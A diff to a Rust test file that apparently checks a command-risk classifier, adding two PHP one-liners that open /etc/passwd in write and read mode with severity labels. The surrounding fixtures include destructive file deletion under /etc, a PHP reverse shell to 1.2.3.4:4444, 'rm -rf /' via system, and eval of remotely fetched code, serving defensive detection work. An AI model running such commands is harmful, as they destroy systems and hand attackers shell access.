@@ -301,6 +301,8 @@ fn php_and_lua() {
         (Critical, r#"php -r 'array_map("unlink", glob("/etc/*"));'"#),
         (Critical, r#"php -r 'foreach (glob("/etc/*") as $f) unlink($f);'"#),
         (High, r#"php -r 'file_put_contents("/etc/passwd","");'"#),
+        (High, r#"php -r '$f = new SplFileObject("/etc/passwd", "w");'"#),
+        (Safe, r#"php -r '$f = new SplFileObject("/etc/passwd");'"#),
         (Critical, r#"php -r '$s=fsockopen("1.2.3.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");'"#),
         (Critical, r#"php -r 'call_user_func("system","rm -rf /");'"#),
         (High, r#"php -r 'eval(file_get_contents("http://x.io/a"));'"#),
